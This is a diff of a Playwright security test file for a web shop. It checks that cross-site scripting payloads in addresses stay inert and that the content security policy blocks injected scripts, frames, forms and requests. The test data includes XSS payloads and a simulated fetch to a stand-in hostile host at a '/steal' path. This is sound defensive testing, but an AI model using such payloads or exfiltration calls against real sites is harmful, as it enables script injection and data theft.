@@ -1,8 +1,8 @@
 import type { Page } from '@playwright/test';
 import { unique } from '../dev/test/samples.ts';
 import { mailTo } from './support/inbox.ts';
+import { expect, shelfTest as test } from './support/shelf.ts';
 import { checkOut, pay, putInCart, thanked } from './support/shopper.ts';
-import { expect, test } from './support/test.ts';
 
 const ATTACKS = [
   '<img src=x onerror="window.attacked=1">',
@@ -25,6 +25,66 @@ test('what is searched for is text', { tag: '@desktop' }, async ({ page }) => {
   await page.goto(`/produkter?kategori=${encodeURIComponent(ATTACKS[1])}&sort=${encodeURIComponent(ATTACKS[0])}`);
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+});
+
+test('what stands in an address is text', { tag: '@desktop' }, async ({ page, shelf, watch }) => {
+  watch.allow(/status of (404|400)/, /Failed to load resource/);
+  for (const attack of ATTACKS) {
+    const text = encodeURIComponent(attack);
+    for (const address of [
+      `/produkter?kategori=${text}`,
+      `/produkter?kategori=${shelf.category.slug}&sida=${text}&visning=${text}&prisfran=${text}`,
+      `/produkter/${text}`,
+      `/seo/kategori/${text}`,
+      `/seo/kollektion/${text}`,
+      `/tack?payment_intent=${text}&payment_intent_client_secret=${text}&redirect_status=${text}`,
+      `/kassa?steg=${text}`,
+      `/${text}`,
+      `/faq#${text}`,
+    ]) {
+      await page.goto(address);
+      await expect(page.getByRole('heading', { level: 1 }), address).toBeVisible();
+      expect(await page.evaluate(() => 'attacked' in window), address).toBe(false);
+    }
+  }
+});
+
+const SLIPPED_IN = [
+  '<img src="data:," onerror="window.attacked=1">',
+  '<a id="link" href="javascript:window.attacked=1">x</a>',
+  '<iframe src="https://elak.example"></iframe>',
+  '<form id="form" action="https://elak.example"></form>',
+].join('');
+
+test('what somebody has slipped into a page does not run, and tells nobody', { tag: '@desktop' }, async ({
+  page,
+  watch,
+}) => {
+  watch.allow(/content security policy/i);
+  await page.addInitScript(() => {
+    const breaches: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => breaches.push(effectiveDirective));
+    Object.assign(window, { breaches });
+  });
+  await page.goto('/kundvagn');
+  // Known as soon as the page's own scripts have taken over.
+  await expect(page.getByRole('heading', { name: 'Kundvagnen är tom' })).toBeVisible();
+  await page.evaluate((html) => {
+    const make = (tag: string, facts: object) => Object.assign(document.createElement(tag), facts);
+    document.head.append(make('base', { href: 'https://elak.example/' }));
+    document.head.append(make('script', { textContent: 'window.attacked=1' }));
+    document.head.append(make('script', { src: 'https://elak.example/a.js' }));
+    document.querySelector('main')!.insertAdjacentHTML('beforeend', html);
+    document.querySelector<HTMLElement>('#link')!.click();
+    document.querySelector<HTMLFormElement>('#form')!.submit();
+    fetch('https://elak.example/steal').catch(() => undefined);
+  }, SLIPPED_IN);
+  const breaches = () => page.evaluate(() => (window as unknown as { breaches: string[] }).breaches);
+  for (const rule of ['script-src-elem', 'script-src-attr', 'base-uri', 'frame-src', 'form-action', 'connect-src']) {
+    await expect.poll(breaches).toContain(rule);
+  }
+  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+  expect(await page.evaluate(() => location.pathname)).toBe('/kundvagn');
 });
 
 test('what a product and a shopper say is text, from the list to the mail', { tag: '@desktop' }, async ({
@@ -66,7 +126,7 @@ test('what a product and a shopper say is text, from the list to the mail', { ta
 });
 
 test('no page lets scripts in from outside, or be framed', { tag: '@desktop' }, async ({ request }) => {
-  for (const address of ['/', '/produkter', '/kassa', '/tack', '/admin/', '/finns-inte']) {
+  for (const address of ['/', '/produkter', '/kassa', '/tack', '/kontakt', '/angra', '/admin/', '/finns-inte']) {
     const headers = (await request.get(address)).headers();
     const policy = headers['content-security-policy'] ?? '';
     const scripts = policy.split(';').find((rule) => rule.trim().startsWith('script-src')) ?? '';
